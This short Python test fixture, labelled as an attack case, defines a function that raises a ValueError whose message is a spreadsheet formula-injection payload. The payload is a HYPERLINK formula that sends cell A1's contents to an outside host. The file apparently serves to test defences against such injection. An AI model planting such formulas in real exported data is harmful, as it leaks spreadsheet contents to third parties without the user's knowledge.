# attack: a spreadsheet formula as the text of an exception
# expect: raised
def dY_dX(X):
    raise ValueError('=HYPERLINK("http://example.org/?"&A1,"total")')
